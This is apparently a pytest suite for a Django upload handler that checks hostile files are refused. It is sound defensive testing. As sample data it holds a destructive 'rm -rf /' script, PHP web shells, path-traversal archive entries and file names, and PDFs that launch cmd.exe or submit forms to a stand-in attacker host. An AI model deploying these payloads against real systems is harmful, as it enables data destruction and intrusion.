"""Hostile uploads (SECURITY G16): none is taken as another type, none escapes, none takes long."""

import io
import struct
import time
import tracemalloc
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from mediation.common.files import FileRefused, read, take_in
from mediation.common.models import StoredFile
from mediation.common.tests.factories import UserFactory
from mediation.common.tests.uploads import pdf_bytes, photo_bytes

pytestmark = pytest.mark.django_db
SLOWEST = 5.0
MOST_MEMORY = 300 * 2**20
SCRIPT = b"<script>alert(document.cookie)</script>"
TINY = {"width": 8, "height": 8}


def zip_bytes():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("../../evil.sh", "rm -rf /")
    return buffer.getvalue()


def png_of(width, height, body=b""):
    """A PNG whose head promises so many pixels."""

    def chunk(kind, data):
        tail = struct.pack(">I", zlib.crc32(kind + data))
        return struct.pack(">I", len(data)) + kind + data + tail

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def gif_bytes():
    return photo_bytes(format="GIF", mode="P", colour=0)


FOREIGN = {
    "empty": b"",
    "one byte": b"\xff",
    "text": "协议书".encode(),
    "html": b"<!doctype html><html>" + SCRIPT,
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "xml bomb": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbb">]><a>&b;</a>',
    "zip": zip_bytes(),
    "docx": zip_bytes().replace(b"evil.sh", b"word.xm"),
    "elf": b"\x7fELF\x02\x01\x01" + bytes(60),
    "exe": b"MZ" + bytes(200),
    "shell": b"#!/bin/sh\nrm -rf /\n",
    "python": b"import os; os.system('id')",
    "php": b"<?php system($_GET['c']); ?>",
    "php in gif": b"GIF89a<?php system('id'); ?>",
    "gif": gif_bytes(),
    "bmp": photo_bytes(format="BMP"),
    "tiff": photo_bytes(format="TIFF"),
    "ico": photo_bytes(format="ICO"),
    "avif": photo_bytes(format="AVIF"),
    "jpeg 2000 head": b"\x00\x00\x00\x0cjP  \r\n\x87\n" + bytes(50),
    "postscript": b"%!PS-Adobe-3.0\nshowpage",
    "eps in pdf name": b"%!PS\n%PDF-1.4",
    "rtf": b"{\\rtf1 hello}",
    "mp4": b"\x00\x00\x00\x18ftypmp42" + bytes(100),
    "heic": b"\x00\x00\x00\x18ftypheic" + bytes(100),
    "heif sequence": b"\x00\x00\x00\x18ftypmsf1" + bytes(100),
    "pdf behind html": b"<html>" + pdf_bytes(),
    "pdf behind a blank": b"\n" + pdf_bytes(),
    "jpeg behind html": SCRIPT + photo_bytes(),
    "riff wav": b"RIFF\x24\x00\x00\x00WAVEfmt " + bytes(40),
    "nulls": bytes(1000),
    "utf-16": "調解".encode("utf-16"),
}

BROKEN_PHOTOS = {
    "jpeg head only": b"\xff\xd8\xff",
    "jpeg cut": photo_bytes(width=400, height=400)[:-400],
    "jpeg with html inside": b"\xff\xd8\xff\xe0" + SCRIPT * 20,
    "jpeg of noise": b"\xff\xd8\xff" + bytes(range(256)) * 40,
    "png head only": b"\x89PNG\r\n\x1a\n",
    "png cut": photo_bytes(format="PNG", width=300, height=300)[:60],
    "png without pixels": png_of(10, 10),
    "png of no width": png_of(0, 10),
    "png with a wrong sum": photo_bytes(format="PNG").replace(b"IHDR", b"IHDX"),
    "png promising 100 000 × 100 000": png_of(100_000, 100_000, zlib.compress(bytes(10_000))),
    "png promising 2³¹ pixels a side": png_of(2**31 - 1, 2**31 - 1),
    "png of 41 million pixels": png_of(6_500, 6_400, zlib.compress(bytes(100_000))),
    "webp head only": b"RIFF\x1a\x00\x00\x00WEBPVP8L",
    "webp cut": photo_bytes(format="WEBP", width=300, height=300)[:40],
    "webp of noise": b"RIFF\xff\xff\x00\x00WEBPVP8X" + bytes(range(256)) * 4,
    "jpeg naming itself png": b"\x89PNG\r\n\x1a\n" + photo_bytes(),
}


def catalogue(entry):
    def change(writer):
        writer._root_object.update(entry(writer))

    return pdf_bytes(change=change)


def name(text):
    return NameObject(text)


def action(kind, **more):
    facts = {name("/S"): name(kind)}
    return DictionaryObject(facts | {name(f"/{key}"): value for key, value in more.items()})


def with_script():
    """A script in the list of names, run by readers when the file is opened."""
    named = ArrayObject([TextStringObject("a"), action("/JavaScript")])
    tree = DictionaryObject({name("/JavaScript"): DictionaryObject({name("/Names"): named})})
    return catalogue(lambda writer: {name("/Names"): tree})


def with_attachment():
    return pdf_bytes(change=lambda writer: writer.add_attachment("evil.exe", b"MZ"))


def with_password():
    return pdf_bytes(change=lambda writer: writer.encrypt("geheim"))


def on_opening(kind, **more):
    return catalogue(lambda writer: {name("/OpenAction"): action(kind, **more)})


def annotated(**facts):
    def change(writer):
        note = DictionaryObject(
            {name("/Type"): name("/Annot")}
            | {name(f"/{key}"): value for key, value in facts.items()}
        )
        writer.pages[0][name("/Annots")] = ArrayObject([writer._add_object(note)])

    return pdf_bytes(change=change)


def looping_tree():
    def change(writer):
        tree = writer._root_object["/Pages"]
        tree[name("/Kids")] = ArrayObject([tree.indirect_reference])

    return pdf_bytes(change=change)


def deep_tree():
    """Half a million arrays inside each other would exhaust a parser that calls itself."""
    deep = b"[" * 200_000 + b"]" * 200_000
    return pdf_bytes().replace(b"trailer", b"9 0 obj\n" + deep + b"\nendobj\ntrailer")


def with_bomb():
    """Ten kilobytes that unpack to ten megabytes, where the parser must unpack: the xref."""
    packed = zlib.compress(bytes(10_000_000))
    head = b"%PDF-1.5\n1 0 obj\n<< /Type /XRef /Size 5 /W [1 2 1] /Root 2 0 R /Filter /FlateDecode"
    body = head + b" /Length %d >>\nstream\n" % len(packed) + packed + b"\nendstream\nendobj\n"
    return body + b"startxref\n9\n%%EOF\n"


HOSTILE_PDFS = {
    "head only": b"%PDF-1.7",
    "head and end": b"%PDF-1.7\n%%EOF",
    "cut": pdf_bytes(pages=3)[:300],
    "noise": b"%PDF-1.7\n" + bytes(range(256)) * 200 + b"\n%%EOF",
    "html inside": b"%PDF-1.7\n" + SCRIPT + b"\n%%EOF",
    "zip behind": pdf_bytes() + zip_bytes(),
    "html behind": pdf_bytes() + SCRIPT,
    "jpeg behind": pdf_bytes() + photo_bytes(),
    "a second pdf behind, cut": pdf_bytes() + pdf_bytes()[:-7],
    "script": with_script(),
    "attachment": with_attachment(),
    "password": with_password(),
    "launch": on_opening("/Launch", F=TextStringObject("cmd.exe")),
    "script on opening": on_opening("/JavaScript", JS=TextStringObject("app.alert(1)")),
    "form that sends": on_opening("/SubmitForm", F=TextStringObject("http://evil.example/")),
    "data from outside": on_opening("/ImportData", F=TextStringObject("//evil/x.fdf")),
    "other document": on_opening("/GoToR", F=TextStringObject("\\\\evil\\x.pdf")),
    "embedded document": on_opening("/GoToE"),
    "xfa": catalogue(
        lambda writer: {
            name("/AcroForm"): DictionaryObject({name("/XFA"): TextStringObject("<xdp/>")})
        }
    ),
    "script of a link": annotated(
        Subtype=name("/Link"), A=action("/JavaScript", JS=TextStringObject("x"))
    ),
    "script under a capital name": annotated(
        Subtype=name("/Widget"), AA=DictionaryObject({name("/K"): action("/JavaScript")})
    ),
    "attached to a page": annotated(Subtype=name("/FileAttachment")),
    "film": annotated(Subtype=name("/RichMedia")),
    "three dimensions": annotated(Subtype=name("/3D")),
    "hidden name of a script": on_opening("/JavaScript").replace(b"/JavaScript", b"/Java#53cript"),
    "no pages": pdf_bytes(pages=0),
    "tree that is its own branch": looping_tree(),
    "201 pages": pdf_bytes(pages=201),
    "arrays inside arrays": deep_tree(),
    "bomb in the index": with_bomb(),
    "index that points to itself": b"%PDF-1.4\nxref\n0 0\ntrailer\n<< /Prev 9 /Root 1 0 R >>\n"
    b"startxref\n9\n%%EOF",
}

HOSTILE = {
    f"{group}: {title}": content
    for group, files in (
        ("foreign", FOREIGN),
        ("photo", BROKEN_PHOTOS),
        ("pdf", HOSTILE_PDFS),
    )
    for title, content in files.items()
}


@pytest.fixture(autouse=True)
def own_store(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "files"
    return settings.MEDIA_ROOT


def refusal_of(content, name="photo.jpg"):
    with pytest.raises(FileRefused) as refusal:
        take_in(SimpleUploadedFile(name, content, "image/jpeg"), by=UserFactory.build())
    return refusal.value


@pytest.mark.parametrize("title", HOSTILE)
def test_a_hostile_file_is_refused_with_a_sentence(title, own_store):
    tracemalloc.start()
    began = time.perf_counter()
    try:
        refusal = refusal_of(HOSTILE[title])
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert time.perf_counter() - began < SLOWEST
    assert peak < MOST_MEMORY
    assert refusal.field == "files"
    with translation.override("en"):
        assert str(refusal).endswith(".")
    assert not own_store.exists()
    assert not StoredFile.objects.exists()


def test_there_are_eighty_of_them():
    assert len(HOSTILE) + len(NAMES) >= 80


NAMES = ("../../etc/cron.d/x.jpg", "..\\..\\x.exe", "/etc/passwd", "a\x00.jpg", "x.php", "纸" * 200)


@pytest.mark.parametrize("name", NAMES)
def test_the_name_of_an_upload_means_nothing(name, own_store):
    upload = SimpleUploadedFile("x.jpg", photo_bytes(), "text/html")
    upload._name = name
    stored = take_in(upload, by=UserFactory())
    found = {path.name for path in own_store.rglob("*") if path.is_file()}
    assert found == {stored.name, f"{stored.name}.small"}
    assert read(stored).startswith(b"\xff\xd8\xff")


def test_pixels_beyond_the_picture_are_never_unpacked():
    bomb = png_of(5, 5, zlib.compress(bytes(100_000_000)))
    tracemalloc.start()
    try:
        stored = take_in(SimpleUploadedFile("x.png", bomb), by=UserFactory())
        assert tracemalloc.get_traced_memory()[1] < 20 * 2**20
    finally:
        tracemalloc.stop()
    assert stored.size < 2_000


@pytest.mark.parametrize("tail", [zip_bytes(), SCRIPT, b"%PDF-1.4", b"\x00" * 100_000])
def test_what_hangs_on_a_photo_is_left_behind(tail):
    stored = take_in(SimpleUploadedFile("x.jpg", photo_bytes() + tail), by=UserFactory())
    assert tail[:50] not in read(stored)


def test_the_way_out_is_told_for_heic_and_for_size(settings):
    with translation.override("en"):
        assert "most compatible" in str(refusal_of(FOREIGN["heic"]))
        settings.FILE_MAX_BYTES = 2**20
        assert "1 MB" in str(refusal_of(bytes(2**20 + 1)))
        assert "40 million" in str(refusal_of(BROKEN_PHOTOS["png of 41 million pixels"]))


def test_the_largest_allowed_picture_is_drawn_in_time():
    """Real memory is measured, for the decoder keeps its pixels outside of Python's own."""
    import resource

    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    began = time.perf_counter()
    content = photo_bytes(
        width=8_000, height=5_000, format="PNG", mode="RGBA", colour=(9, 9, 9, 99)
    )
    stored = take_in(SimpleUploadedFile("x.png", content), by=UserFactory())
    assert time.perf_counter() - began < 2 * SLOWEST  # with the time to make it
    assert stored.width == 2400
    after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    assert (after - before) * 1024 < 2 * MOST_MEMORY


def test_a_harmless_pdf_with_links_and_bookmarks_is_taken():
    def change(writer):
        writer.add_outline_item(title="目录", page_number=0)
        writer.pages[0][NameObject("/Annots")] = ArrayObject(
            [DictionaryObject({name("/Subtype"): name("/Link"), name("/A"): action("/GoTo")})]
        )
        writer.pages[1].merge_page(PdfWriter().add_blank_page(100, 100))

    content = pdf_bytes(pages=2, change=change)
    assert take_in(SimpleUploadedFile("x.pdf", content), by=UserFactory()).pages == 2


def test_pillow_decodes_only_what_is_allowed():
    """The allow-list is ours: a new format of the library does not slip in."""
    from mediation.common.files.pictures import FORMATS

    Image.init()
    assert set(Image.OPEN) > set(FORMATS) == {"JPEG", "PNG", "WEBP"}
